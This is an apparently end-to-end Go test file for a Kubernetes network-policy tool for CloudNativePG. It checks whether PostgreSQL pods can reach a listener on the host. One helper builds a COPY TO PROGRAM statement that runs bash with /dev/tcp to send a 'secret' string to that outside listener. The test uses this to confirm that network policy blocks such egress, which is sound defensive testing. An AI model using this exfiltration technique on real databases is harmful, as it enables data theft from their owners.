//go:build e2e

package kind_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cnpg-netpol/kubectl-cnpg-netpol/e2e/kind/datapath"
)

// outsider listens on the machine that runs the container engine, which is no node: for Cilium, it is the world. It
// greets whoever connects, and keeps what they say.
type outsider struct {
	address netip.AddrPort
	mu      sync.Mutex
	heard   strings.Builder
}

// greeting is what an outsider says first.
const greeting = "hello from outside"

func (w *world) listenOutside(t *testing.T) *outsider {
	t.Helper()
	listener, err := net.Listen("tcp", net.JoinHostPort(w.gateway(t).String(), "0"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = listener.Close() }) // Nobody connects any more.
	o := &outsider{}
	if o.address, err = netip.ParseAddrPort(listener.Addr().String()); err != nil {
		t.Fatal(err)
	}
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return // It is closed.
			}
			go o.hear(c)
		}
	}()
	return o
}

// gateway is the address of this machine in the nodes' network.
func (w *world) gateway(t *testing.T) netip.Addr {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), "docker", "inspect", "-f", "{{range .NetworkSettings.Networks}}{{.Gateway}}{{end}}", w.node(t)).Output()
	if err != nil {
		t.Fatal(err)
	}
	address, err := netip.ParseAddr(strings.TrimSpace(string(out)))
	if err != nil {
		t.Fatal(err)
	}
	return address
}

func (o *outsider) hear(c net.Conn) {
	defer func() { _ = c.Close() }()               // It was heard.
	_ = c.SetDeadline(time.Now().Add(time.Minute)) // Whoever stays longer is not heard.
	_, _ = io.WriteString(c, greeting+"\n")
	text, _ := io.ReadAll(io.LimitReader(c, 1<<16))
	o.mu.Lock()
	defer o.mu.Unlock()
	o.heard.Write(text)
}

func (o *outsider) has(text string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Contains(o.heard.String(), text)
}

// toOutside is an outsider as something that an instance tries to reach.
func (w *world) toOutside(t *testing.T, o *outsider) reached {
	t.Helper()
	text := script(t, "attempt-tcp.sh")
	return reached{
		what: "the outside", target: o.address.String(),
		path: func(instance client) (datapath.Path, error) {
			from, err := w.podAddress(t.Context(), instance.namespace, instance.pod)
			return datapath.Path{From: []netip.Addr{from}, To: []netip.Addr{o.address.Addr()}, Port: o.address.Port()}, err
		},
		try: func(ctx context.Context, instance client, seconds int) (datapath.Attempt, error) {
			return w.attemptIn(ctx, instance, text, o.address.Addr().String(), strconv.Itoa(int(o.address.Port())), "", greeting, strconv.Itoa(seconds))
		},
	}
}

// copied lets PostgreSQL's superuser send a text to an outsider, as COPY TO PROGRAM can.
func (o *outsider) copied(t *testing.T, w *world, text string) error {
	t.Helper()
	statement := fmt.Sprintf(`copy (select 'secret %s') to program 'timeout 10 bash -c "exec 3<>/dev/tcp/%s/%d && cat >&3"'`, text, o.address.Addr(), o.address.Port())
	_, err := w.sql(t.Context(), w.primary(t, "cluster-example"), statement)
	return err
}

func (o *outsider) expectCopied(t *testing.T, w *world, text string) {
	t.Helper()
	eventually(t, func(context.Context) error {
		if err := o.copied(t, w, text); err != nil {
			return err
		}
		return differs("the outside has heard it", true, o.has("secret "+text))
	})
	t.Logf("COPY TO PROGRAM has sent %q to the outside", "secret "+text)
}

func (o *outsider) expectNotCopied(t *testing.T, w *world, text string) {
	t.Helper()
	begun := time.Now()
	err := o.copied(t, w, text)
	if err == nil || o.has("secret "+text) {
		t.Errorf("COPY TO PROGRAM: %v; the outside has heard it: %t", err, o.has("secret "+text))
	}
	from := w.addresses(t, "default", instancesOf("cluster-example").selector)
	w.expectDenied(t, "COPY TO PROGRAM to the outside", datapath.Path{From: from, To: []netip.Addr{o.address.Addr()}, Port: o.address.Port()}, begun)
	t.Logf("COPY TO PROGRAM is blocked: %v", err)
}
